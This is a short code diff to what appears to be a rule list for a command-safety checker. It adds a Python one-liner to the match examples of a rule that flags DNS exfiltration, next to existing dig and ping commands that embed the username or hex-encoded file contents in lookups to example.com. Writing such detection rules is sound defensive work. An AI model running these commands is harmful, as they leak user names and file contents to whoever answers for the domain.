@@ -42,7 +42,11 @@ RULES = family(
         when=effect("net.send", "dns"),
         reason="A name that is looked up carries what was computed into it to whoever answers for the domain",
         reversible=False,
-        match=["$ dig $(whoami).example.com", "$ ping -c 1 $(cat notes | xxd -p).example.com"],
+        match=[
+            ">>> import socket, getpass; socket.gethostbyname(getpass.getuser() + '.example.com')",
+            "$ dig $(whoami).example.com",
+            "$ ping -c 1 $(cat notes | xxd -p).example.com",
+        ],
         no_match=["$ dig example.com", "$ ping $HOST"],
     ),
     Rule(
